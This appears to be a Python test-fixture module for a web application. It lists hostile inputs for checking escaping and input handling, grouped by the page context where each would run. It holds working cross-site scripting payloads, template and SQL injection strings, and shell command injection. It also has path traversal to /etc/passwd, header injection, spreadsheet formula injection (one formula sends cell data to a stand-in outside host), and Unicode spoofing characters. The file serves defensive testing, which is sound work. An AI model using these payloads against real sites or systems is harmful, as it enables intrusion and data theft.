# ruff: noqa: E501, ISC004 - the names stand as they are
"""Names that a stranger could give: what would run, what would turn a page around, what would not fit.

`LIVE` holds each payload with the place in a page where it runs when nobody escapes it: the control of
`test_names.py` shows that each really runs there. `QUIET` holds what runs nowhere but misleads, breaks a
layout, or breaks a program. Every payload that runs calls `alert`, which the tests watch.
"""

from __future__ import annotations

from collections.abc import Mapping

PLACES: Mapping[str, str] = {
    "body": "<p>{{ x }}</p>",
    "double": '<p><input value="{{ x }}"></p>',
    "single": "<p><input value='{{ x }}'></p>",
    "bare": "<p><input value={{ x }}></p>",
    "head": "<title>{{ x }}</title>",
    "area": "<textarea>{{ x }}</textarea>",
    "choice": "<select><option>{{ x }}</option></select>",
    "comment": "<!-- {{ x }} -->",
    "sheet": "<style>{{ x }}</style>",
    "drawing": "<svg><text>{{ x }}</text></svg>",
    "said": '<script>var a = "{{ x }}";</script>',
    "quoted": "<script>var a = '{{ x }}';</script>",
    "literal": "<script>var a = `{{ x }}`;</script>",
    "link": '<a id="go" href="{{ x }}">go</a>',
    "frame": '<iframe src="{{ x }}"></iframe>',
    "act": '<form action="{{ x }}"><button id="go">go</button></form>',
    "handler": "<input autofocus onfocus=\"var a='{{ x }}'\">",
}
"""Where an unwise template would write a name."""

LIVE: tuple[tuple[str, str], ...] = (
    # elements that run by themselves
    ("body", "<script>alert(1)</script>"),
    ("body", "<ScRiPt>alert(1)</sCrIpT>"),
    ("body", "<script >alert(1)</script\t>"),
    ("body", "<script/x>alert(1)</script>"),
    ("body", "<script src=data:text/javascript,alert(1)></script>"),
    ("body", "<script type=module>alert(1)</script>"),
    ("body", '<script>eval("al"+"ert(1)")</script>'),
    ("body", "<script>setTimeout('alert(1)')</script>"),
    ("body", "<script>\\u0061lert(1)</script>"),
    ("body", "<img src=x onerror=alert(1)>"),
    ("body", "<img src=x onerror=alert`1`>"),
    ("body", '<img src="x" onerror="&#97;lert(1)">'),
    ("body", '<img/src="x"/onerror=alert(1)>'),
    ("body", "<img src=x\nonerror\n=\nalert(1)>"),
    ("body", "<img src=x onerror=Function('al'+'ert(1)')()>"),
    ("body", "<image src=x onerror=alert(1)>"),
    ("body", "<video src=x onerror=alert(1)></video>"),
    ("body", "<video><source onerror=alert(1)></video>"),
    ("body", "<audio src=x onerror=alert(1)>"),
    ("body", "<input type=image src=x onerror=alert(1)>"),
    ("body", "<input autofocus onfocus=alert(1)>"),
    ("body", "<select autofocus onfocus=alert(1)>"),
    ("body", "<textarea autofocus onfocus=alert(1)>"),
    ("body", "<button autofocus onfocus=alert(1)>x"),
    ("body", "<a href=# autofocus onfocus=alert(1) tabindex=1>x"),
    ("body", "<x contenteditable autofocus onfocus=alert(1)>"),
    ("body", "<details open ontoggle=alert(1)>"),
    ("body", "<object data=data:text/html,x onload=alert(1)></object>"),
    ("body", "<embed src=data:text/html,x onload=alert(1)>"),
    ("body", "<iframe onload=alert(1)></iframe>"),
    ("body", "<iframe src=javascript:parent.alert(1)></iframe>"),
    ("body", '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'),
    ("body", "<iframe srcdoc=&lt;svg/onload=parent.alert(1)&gt;></iframe>"),
    ("body", "<body onload=alert(1)>"),
    ("body", "<body onpageshow=alert(1)>"),
    ("body", "<link rel=preload as=image href=data:, onload=alert(1) onerror=alert(1)>"),
    ("body", "<style onload=alert(1)></style>"),
    ("body", "<style>@keyframes k{}</style><b style=animation:k onanimationstart=alert(1)>x"),
    (
        "body",
        "<style>b{transition:color 1ms;color:red}b:hover,b:target{color:blue}</style><xss onscrollend=alert(1) "
        "style=display:block;overflow:auto;height:9px autofocus tabindex=0 onfocus=alert(1)>x",
    ),
    ("body", "<form><button formaction=javascript:alert(1) id=go>x"),
    ("body", "<a id=go href=javascript:alert(1)>x</a>"),
    ("body", "<a id=go href='java\tscript:alert(1)'>x</a>"),
    ("body", "<a id=go href=&#106;avascript&colon;alert(1)>x</a>"),
    ("body", "<base href=javascript:/a/><a id=go href='javascript:alert(1)'>x</a>"),
    ("body", "<meta http-equiv=refresh content='0;url=data:text/html,x'><svg onload=alert(1)>"),
    ("body", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
    ("body", "<table background=x><td><img src=x onerror=alert(1)>"),
    ("body", "<div popover id=x onbeforetoggle=alert(1)>y</div><button popovertarget=x id=go>z"),
    ("body", "<img src=x:x onerror=alert(1)//><!--"),
    ("body", "<!--><img src=x onerror=alert(1)>-->"),
    ("body", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("body", "<?xml version='1.0'?><img src=x onerror=alert(1)>"),
    ("body", "<<img src=x onerror=alert(1)>"),
    ("body", "</p><img src=x onerror=alert(1) "),
    ("body", "\ufeff<img src=x onerror=alert(1)>"),
    ("body", "<template shadowrootmode=open><img src=x onerror=alert(1)></template>"),
    # drawings and formulas
    ("body", "<svg onload=alert(1)>"),
    ("body", "<svg/onload=alert(1)>"),
    ("body", "<svg><script>alert(1)</script></svg>"),
    ("body", "<svg><script>&#97;lert(1)</script>"),
    ("body", "<svg><script href=data:,alert(1) />"),
    ("body", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("body", "<svg><set onbegin=alert(1) attributename=x>"),
    ("body", "<svg><image href=x onerror=alert(1)>"),
    ("body", "<svg><foreignObject><img src=x onerror=alert(1)>"),
    ("body", "<svg><style><img src=x onerror=alert(1)></style>"),
    ("body", "<svg><a id=go xlink:href=javascript:alert(1)><text y=20>x</text></a>"),
    ("body", "<math><mtext><img src=x onerror=alert(1)>"),
    ("body", "<math><mi><style><!--</style><img src=x onerror=alert(1)>--></mi>"),
    ("body", "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>"),
    ("drawing", "</text><script>alert(1)</script>"),
    ("drawing", "<tspan></svg><img src=x onerror=alert(1)>"),
    # out of an attribute
    ("double", '"><script>alert(1)</script>'),
    ("double", '" autofocus onfocus=alert(1) x="'),
    ("double", '"autofocus onfocus="alert(1)'),
    ("double", '"><svg onload=alert(1)>'),
    ("single", "'><img src=x onerror=alert(1)>"),
    ("single", "' autofocus onfocus='alert(1)"),
    ("bare", "x autofocus onfocus=alert(1)"),
    ("bare", "x\tautofocus\fonfocus=alert(1)"),
    ("bare", "`><img src=x onerror=alert(1)>"),
    # out of an element whose content is text
    ("head", "</title><script>alert(1)</script>"),
    ("head", "</TITLE ><img src=x onerror=alert(1)>"),
    ("area", "</textarea><script>alert(1)</script>"),
    ("choice", "</option></select><img src=x onerror=alert(1)>"),
    ("comment", "--><script>alert(1)</script>"),
    ("comment", "--!><img src=x onerror=alert(1)>"),
    ("sheet", "</style><script>alert(1)</script>"),
    # inside a script
    ("said", '";alert(1);//'),
    ("said", "</script><script>alert(1)</script>"),
    ("said", "</script><svg onload=alert(1)>"),
    ("said", '"-alert(1)-"'),
    ("quoted", "';alert(1);//"),
    ("quoted", "'-alert(1)-'"),
    ("literal", "${alert(1)}"),
    ("handler", "';alert(1);'"),
    ("handler", "&#39;;alert(1);&#39;"),
    # values of an address
    ("link", "javascript:alert(1)"),
    ("link", "JaVaScRiPt:alert(1)"),
    ("link", "java\nscript:alert(1)"),
    ("link", " \x01javascript:alert(1)"),
    ("link", "javascript://x%0aalert(1)"),
    ("link", "&#x6A;avascript:alert(1)"),
    ("frame", "javascript:parent.alert(1)"),
    ("frame", "data:text/html,<script>alert(1)</script>"),
    ("act", "javascript:alert(1)"),
)

_MARKS = "".join(chr(number) for number in range(0x300, 0x340))
QUIET: tuple[str, ...] = (
    # would be filled in by a template
    "{{ 7|add:7 }}{{ settings.SECRET_KEY }}",
    "{% include 'hq/base.html' %}{% load static %}",
    "{{request.session.items}}{# #}{% endblock %}",
    "${7*7}#{7*7}<%= 7*7 %>{{constructor.constructor('alert(1)')()}}",
    "%(name)s %s %d %n %% {0} {name.__class__}",
    "ngettext %(count)",
    "<object data=javascript:alert(1)>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x",
    # asks elsewhere, runs nothing
    "<img src=http://elsewhere.example/a>",
    '<img src="//elsewhere.example/b" lowsrc=//elsewhere.example/c>',
    "<link rel=stylesheet href=http://elsewhere.example/d>",
    "<style>@import 'http://elsewhere.example/e';*{background:url(//elsewhere.example/f)}</style>",
    "<base href=http://elsewhere.example/>",
    "<meta http-equiv=refresh content='0;url=http://elsewhere.example/g'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<form action=http://elsewhere.example/h><input name=csrfmiddlewaretoken><button>",
    "<iframe src=http://elsewhere.example/i>",
    "<video poster=//elsewhere.example/j><track src=//elsewhere.example/k default>",
    "<svg><use href=http://elsewhere.example/l#x></svg>",
    "</bdi></dd></dl></main></body></html><plaintext>",
    "<!--",
    "-->",
    "]]>",
    "<xmp>",
    "<listing>",
    "<frameset>",
    "<template>",
    "</form></table>",
    "<div style=position:fixed;inset:0;z-index:99;background:red;width:9999px>over all of it</div>",
    "<p id=content></p><input name=next value=//elsewhere.example>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;&#0;&#x110000;&NotAnEntity;",
    "\"'`<>&;=",
    # writing turned around, letters unseen
    "photo\u202egnp.exe",
    "\u202dabc\u202edef\u202c\u202c\u202c",
    "\u2066\u2067\u2068 never closed",
    "\u202e" * 50,
    "\u200f\u200e\u061cmarks",
    "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "\u200b",
    "\u00ad" * 60,
    "\u2028line\u2029paragraph",
    "\u180e\u3164\uffa0\u115f blank letters",
    "\U000e0041\U000e0042\U000e007f tags",
    "\ufe0f\ufe0e\U000e0100 chooses a shape",
    "line\nline\r\nline\ttab\vfeed\f",
    "bell\x07 escape \x1b[31mred\x1b]0;title\x07 back\x08\x08",
    "\x01\x02\x1f\x7f\x80\x85\x9f",
    "\x85\xa0\u2007\u202f\u3000wide blanks",
    "\ufffe\uffff\U0001ffff no characters",
    "\ue000\U000f0000\U0010fffd nobody's letters",
    # other directions, other letters
    "اسم الملف العربي.jpg",
    "שם קובץ בעברית (1).pdf",
    "ملف 123 file עברית.doc",
    "فایل فارسی؛ ۱۲۳",
    "ދިވެހި ބަސް",
    "Рассказ свидетеля.docx",
    "文件名称（最终版）.pdf",
    "ชื่อไฟล์ภาษาไทย",
    "སྙན་ངག་གི་ཡི་གེ",
    "ﷺﷺﷺﷺﷺﷺﷺﷺ",
    "𒐫𒐫𒐫𒐫𒐫𒐫",
    "꧅꧅꧅꧅",
    # many signs upon one letter, pictures of several parts
    "Z" + _MARKS + "a" + _MARKS * 2,
    "o" + "\u0489" * 60,
    "க்ஷ்ரீ" * 12,
    "ཀྵྨླྺྻྼ" * 9,
    "👩\u200d👩\u200d👧\u200d👦" * 12,
    "🏳\ufe0f\u200d🌈🏴\u200d☠\ufe0f🇫🇷🇷🇺👍🏿",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "1\ufe0f\u20e32\ufe0f\u20e3#\ufe0f\u20e3",
    "\U0001f600" * 90,
    # alike to the eye
    "аdmin",
    "Аlісе Ѕаmрlе",
    "рaypal",
    "ﬁle",
    "ⅼead",
    "０１２３",
    "e\u0301tat",
    "état",
    "İstanbul ıI",
    "ẞß",
    # what programs choke on
    "",
    " ",
    ".",
    "..",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\CON",
    "NUL.txt",
    "a\\",
    "null",
    "None",
    "undefined",
    "NaN",
    "-1",
    "1e999",
    "0x7fffffff",
    "true",
    "[object Object]",
    "'; DROP TABLE vault_item; --",
    '" OR 1=1 --',
    "%' LIKE '%",
    "$(touch x)`touch x`|touch x;",
    "file:///etc/passwd",
    "%00%0d%0aSet-Cookie:%20a=b",
    "a\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
    "filename=\"x\"; filename*=UTF-8''x",
    # what a spreadsheet would reckon
    '=HYPERLINK("http://elsewhere.example";"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    '=WEBSERVICE("http://elsewhere.example/"&A1)',
    "＝1+1",
    "|calc",
    # what does not fit
    "W" * 4_000,
    "m" * 199 + "!",
    "\u5b57" * 4_000,
    "\u0634" * 4_000,
    "a\u00a0" * 2_000,
    "-" * 4_000,
    "https://" + "elsewhere" * 400 + ".example/",
    "𝕎" * 2_000,
    "﷽" * 200,
    "word " * 800,
    "\u2588" * 4_000,
    "(((((((((((((((((((((((((((((" * 9,
    "..................................................." * 9,
)
"""What runs nowhere, and must not mislead, move or break anything."""

LONE: tuple[str, ...] = ("\ud800", "a\udfffb", "\udcff\udc80", "\ude00\ud83d")
"""Halves of characters: no database and no answer can hold them."""
NUL = "a\0b\0"

NAMES: tuple[str, ...] = tuple(dict.fromkeys([*(text for _, text in LIVE), *QUIET]))


def packed(room: int, start: int) -> str:
    """Return names from number `start` on, joined, as many as fit into `room` characters; the first is cut."""
    told = NAMES[start % len(NAMES)][:room]
    for step in range(1, len(NAMES)):
        more = NAMES[(start + step) % len(NAMES)]
        if len(told) + 1 + len(more) > room:
            break
        told += " " + more
    return told


def packs(room: int) -> list[str]:
    """Return texts of at most `room` characters in which, together, every name stands; a longer one is cut."""
    told: list[str] = []
    for name in NAMES:
        text = name[:room]
        if told and len(told[-1]) + 1 + len(text) <= room:
            told[-1] += " " + text
        else:
            told.append(text)
    return told
